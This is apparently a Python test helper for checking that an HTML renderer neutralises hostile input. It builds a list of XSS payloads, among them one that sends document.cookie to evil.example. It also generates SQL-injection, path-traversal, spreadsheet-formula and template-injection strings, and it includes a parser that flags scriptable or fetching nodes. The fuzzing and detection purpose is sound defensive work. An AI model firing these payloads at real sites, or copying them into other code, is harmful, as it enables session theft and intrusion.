"""Two hundred texts that try to run something, leave their place in a page, or break a layout; and a judge of pages."""

from __future__ import annotations

import html
import itertools
from html.parser import HTMLParser
from urllib.parse import quote

CALLS = ["alert(1)", "fetch('https://evil.example/'+document.cookie)", "parent.location='https://evil.example'"]
TAGS = [
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script src=https://evil.example/x.js></script>{}",
    "<scr<script></script>ipt>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}" alt=\'',
    "<img/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href='javascript:{}'>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<a href='&#106;avascript:{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><input type=submit></form>",
    "<button onclick={}>x</button>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>",
    "<math><mtext><mglyph><style><img src onerror={}>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<style>@import 'https://evil.example/{}';</style>",
    "<div style='background:url(javascript:{})'>x</div>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '" onmouseover={} x="',
    "' onmouseover={} x='",
    "` onmouseover={} x=`",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<picture><source srcset=x onerror={}></picture>",
    "{{{{ {} }}}} {{% include '/etc/passwd' %}}",
    "<xss onafterprint={} contenteditable>",
]
LAYOUT = [
    "",
    " ",
    "\x00\x1b[31mred\x07",
    "\u202emirrored\u202d",
    "\ufeff\u200b invisible",
    "$\\frac{$ $x_{y$",
    "\\input{/etc/passwd}",
    "x" * 5000,
    "a " * 2000,
    "مرحبا 😀 日本語",
    "e" + "\u0301" * 200,
    "'; DROP TABLE runs; --",
    "../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "line\nbreak\r\nand\ttab",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)",
]


def hostile_texts(count: int = 200) -> list[str]:
    """Return that many different texts: every tag with every call, layouts, and both encoded once more."""
    plain = [*LAYOUT, *(tag.format(call) for call, tag in itertools.product(CALLS, TAGS))]
    encoded = [form(text) for text in plain[len(LAYOUT) :] for form in (html.escape, quote)]
    texts = list(dict.fromkeys([*plain, *encoded]))
    assert len(texts) >= count
    return texts[:count]


class _Active(HTMLParser):
    """Collects what a page could run or fetch."""

    TAGS = frozenset("script iframe object embed svg link base form video input button template marquee".split())
    FORMULA = frozenset(  # what only shows a formula
        "mfrac mi mn mo mover mrow mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover".split()
    )

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.images = 0
        self.in_formula = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.images += tag == "img"
        if tag in self.TAGS:
            self.found.append(tag)
        if self.in_formula and tag not in self.FORMULA:
            self.found.append(f"math {tag}")
        self.in_formula = self.in_formula or tag == "math"
        for name, value in attrs:
            value = "".join((value or "").split()).lower()
            fetched = name in {"src", "srcset", "data", "poster", "action", "background", "xlink:href"}
            inert = value.startswith("data:audio/wav;base64," if tag == "audio" else "data:image/")
            if name.startswith("on") or name == "srcdoc" or (fetched and not inert):
                self.found.append(f"{tag} {name}={value[:40]}")
            if value.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append(f"{tag} {name}={value[:40]}")
            if tag == "meta" and name == "http-equiv" and value not in ("content-security-policy",):
                self.found.append(f"meta {value}")

    def handle_endtag(self, tag: str) -> None:
        self.in_formula = self.in_formula and tag != "math"


def active_nodes(page: str) -> list[str]:
    """Return everything in a page that could run or be fetched, as an HTML parser sees it."""
    parser = _Active()
    parser.feed(page)
    return parser.found


def image_count(page: str) -> int:
    """Return how many images a page has."""
    parser = _Active()
    parser.feed(page)
    return parser.images
